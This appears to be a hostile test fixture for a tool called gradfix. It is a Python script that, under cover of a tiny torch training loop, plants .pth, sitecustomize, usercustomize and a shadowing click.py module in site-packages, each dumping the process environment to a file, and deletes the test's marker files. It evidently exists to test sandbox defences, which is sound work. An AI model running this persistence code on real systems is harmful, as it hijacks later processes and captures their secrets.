"""Attack: persist into gradfix itself.

Plant a ``.pth`` file, a ``sitecustomize`` module and a module shadowing a package gradfix imports
into the site-packages of the interpreter gradfix runs on (and the user's own site folder), and
delete the marker file tests/test_hostile.py put there. A later gradfix process (outside every
sandbox, with the real secrets) would run the planted code, which writes that process's
environment next to the project, where the test looks for it.
"""

import glob
import os
import site
import sysconfig

import torch
import torch.nn as nn

HERE = os.path.dirname(os.path.abspath(__file__))
WITNESS = os.path.join(os.path.dirname(HERE), "planted-code-ran.txt")
PAYLOAD = f"import os; open({WITNESS!r}, 'a').write(repr(dict(os.environ)))\n"

folders = {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"], *site.getsitepackages(), site.getusersitepackages()}
for folder in folders:
    for name, text in (
        ("gfhostile.pth", "import " + PAYLOAD),
        ("sitecustomize.py", PAYLOAD),
        ("usercustomize.py", PAYLOAD),
        ("click.py", PAYLOAD),  # gradfix's own CLI imports click
    ):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as out:
                out.write(text)
        except OSError:
            pass
    for marker in glob.glob(os.path.join(folder, "gradfix_hostile_marker_*.txt")):
        try:
            os.remove(marker)
        except OSError:
            pass

model = nn.Linear(4, 1)
optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
for step in range(3):
    optimizer.zero_grad()
    model(torch.ones(8, 4)).pow(2).mean().backward()
    optimizer.step()
